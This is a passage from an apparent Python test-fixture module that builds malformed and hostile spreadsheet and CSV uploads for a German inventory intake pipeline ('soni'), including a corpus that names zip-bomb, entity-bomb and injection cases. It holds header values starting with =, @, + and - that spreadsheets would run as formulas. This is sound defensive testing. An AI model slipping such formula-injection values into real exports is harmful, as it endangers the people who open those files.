    """One CSV cell of 1.2 million characters: more than any real cell (soni.read refuses it)."""
    return long_cell_csv(1_200_000)


def header_only_csv() -> Built:
    return "inventar.csv", csv_text([HEADER]).encode("utf-8")


def blank_rows_xlsx() -> Built:
    """A header and three rows that hold only spaces: no activity at all."""
    return "inventar.xlsx", xlsx([HEADER, [" "] * len(HEADER), ["", " ", None, " "], [" "] * 3])


FORMULA_HEADER = ["=Titel", "@Quartier", "+Stunden", "-Träger"]


def formula_header_xlsx() -> Built:
    """Column headers that a spreadsheet would run as formulas (they reach every export)."""
    return "inventar.xlsx", xlsx([FORMULA_HEADER, ["Treff (erfunden)", "Nordstadt", 2, "Diakonie Musterstadt"]])


#: Every builder by a short name. Refused by soni.intake.guard: leer … riesen_sst (except csv_als_xlsx,
#: falsches_xls, ferne_formatierung) and binaer_als_csv; the rest pass the guard and are for the
#: later stages (header only, blank rows, missing Quartier, injection, script, ragged CSV, an
#: unclosed quote, an overlong cell, duplicate headers, merged header cells, error values,
#: formulas without a result). tests/test_hostile_pipeline.py holds the expected outcome of each.
CORPUS: dict[str, Callable[[], Built]] = {
    "leer": empty_file,
    "pdf_als_xlsx": pdf_as_xlsx,
    "png_als_xlsx": png_as_xlsx,
    "docx_als_xlsx": docx_as_xlsx,
    "text_als_xlsx": text_as_xlsx,
    "csv_als_xlsx": csv_as_xlsx,
    "html_als_xls": html_as_xls,
    "abgeschnitten": truncated_xlsx,
    "verschluesselt": encrypted_xlsx,
    "word_doc_als_xls": word_doc_as_xls,
    "falsches_xls": fake_xls,
    "entity_bombe": entity_bomb_xlsx,
    "zip_bombe": zip_bomb_xlsx,
    "riesen_text": huge_string_xlsx,
    "ferne_zelle": far_cell_xlsx,
    "ferne_zeile": far_row_xlsx,
    "ferne_formatierung": far_format_only_xlsx,
    "riesen_sst": huge_shared_strings_xlsx,
    "fehlerwerte": error_cells_xlsx,
    "fehlerwerte_ods": ods_error_cells_ods,
    "fehlerwerte_xls": xls_error_cells,
    "formel_ohne_wert": formula_without_value_xlsx,
    "nur_kopfzeile": header_only_xlsx,
    "ohne_quartier": missing_quartier_xlsx,
    "injektion_xlsx": injection_xlsx,
    "injektion_csv": injection_csv,
    "script": script_xlsx,
    "utf16_csv": utf16_csv,
    "utf16le_ohne_bom_csv": utf16le_csv,
    "cp1252_csv": cp1252_csv,
    "ungleiche_zeilen_csv": ragged_csv,
    "nul_csv": nul_csv,
    "binaer_als_csv": binary_as_csv,
    "offenes_anfuehrungszeichen_csv": unclosed_quote_csv,
    "ueberlange_zelle_csv": long_cell_csv,
    "riesenzelle_csv": huge_cell_csv,
    "nur_kopfzeile_csv": header_only_csv,
    "nur_leerzeilen": blank_rows_xlsx,
    "formel_kopfzeile": formula_header_xlsx,
    "doppelte_kopfzeilen": duplicate_headers_xlsx,
    "verbundene_kopfzellen": merged_header_xlsx,
}
